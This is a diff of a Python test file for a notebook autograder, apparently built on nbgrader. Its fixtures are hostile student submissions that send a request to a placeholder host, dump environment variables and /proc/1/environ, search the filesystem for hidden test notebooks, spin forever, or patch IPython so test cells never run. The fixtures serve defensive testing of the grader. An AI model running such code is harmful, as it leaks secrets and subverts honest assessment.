@@ -48,31 +48,28 @@ def without_hidden_cell(made):
 
 def right_answers(handout):
     """Right answers in forms that people really hand in, each worth 3 points: file name and bytes."""
-    make = lambda answer=RIGHT, *before, after=(): notebook(handout, answer, before, after)  # noqa: E731
-    forms = {
-        "plain": make(),
-        "cell-time": make(f"%%time\n{RIGHT}"),
-        "shell": make(RIGHT, "!ls", "import asyncio\nawait asyncio.sleep(0)", "display(3)"),
-        "loud": make(f"{RIGHT}\n\nfor _ in range(100):\n    print('x' * 1_000_000)"),
-        "version-3": version_3(make()),
-        "deleted-test": without_hidden_cell(make()),
-    }
+    make = lambda answer=RIGHT, *before: notebook(handout, answer, before)  # noqa: E731
+    cells = "!ls", "import asyncio\nawait asyncio.sleep(0)", "display(3)"
+    loud = f"%%time\n{RIGHT}\n\nfor _ in range(100):\n    print('x' * 1_000_000)"
+    forms = {"plain": make(), "loud": make(loud, *cells), "deleted-test": without_hidden_cell(make())}
     files = {name: ("hw_small.ipynb", json.dumps(made).encode()) for name, made in forms.items()}
-    files["mark"] = ("hw_small.ipynb", b"\xef\xbb\xbf" + files["plain"][1])
-    files["renamed"] = ("hw_small (1).ipynb", files["plain"][1])
+    mark = b"\xef\xbb\xbf"  # of UTF-8, as an editor of Windows leaves it
+    files["version-3"] = ("hw_small (1).ipynb", mark + json.dumps(version_3(make())).encode())
     return files
 
 
-SEARCH = """import glob, re
-for path in glob.glob("{}", recursive=True):
-    text = open(path, errors="replace").read()
-    if "BEGIN HIDDEN" in text or "2 * x" in text and "hw_small" in path:
-        print("FOUND", path)
+SEARCH = """import os
+for folder, _, files in os.walk("/"):
+    for path in (f"{folder}/{name}" for name in files if name.endswith(".ipynb")):
+        text = open(path, errors="replace").read()
+        if "BEGIN HIDDEN" in text and "/nbgrader/" not in path:
+            print("FOUND", path)
+print("SEARCHED ALL")
 """
 HOSTILE = {  # each line in a cell of its own
     "spy": [
         "import urllib.request\nurllib.request.urlopen('http://{address}/stolen', timeout=2)",
-        SEARCH.format("/**/source/**/*.ipynb"),
+        SEARCH,
         "import os\nprint(dict(os.environ), open('/proc/1/environ').read())",
         "print([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
     ],
@@ -92,13 +89,11 @@ HOSTILE = {  # each line in a cell of its own
     "stubborn": ["while True:\n    try:\n        while True: pass\n    except BaseException: pass"],
 }
 TAMPERED = {  # cells of the handout that a student changed
-    "weak-test": {"small_1_check": "pass"},
-    "no-test": {"small_1_check": ""},
+    "weak test": {"small_1_check": "pass"},
+    "no+test@c.d": {"small_1_check": ""},
 }
-CHEATS = {  # a submission and its tests share a kernel: nbgrader cannot stop these, and the guide says so
-    "patched-equal": "torch.Tensor.equal = lambda a, b: True\ntorch.Tensor.tolist = lambda a: [2.0, 2.0]",
-    "patched-run": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
-}
+# A submission and its tests share a kernel: nbgrader cannot stop this, and the guide says so.
+CHEAT = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"
 BROKEN = {  # bytes in place of a notebook, and what the row says
     "empty": (b"", "is no notebook"),
     "nested": (b"[" * 200_000, "is no notebook"),
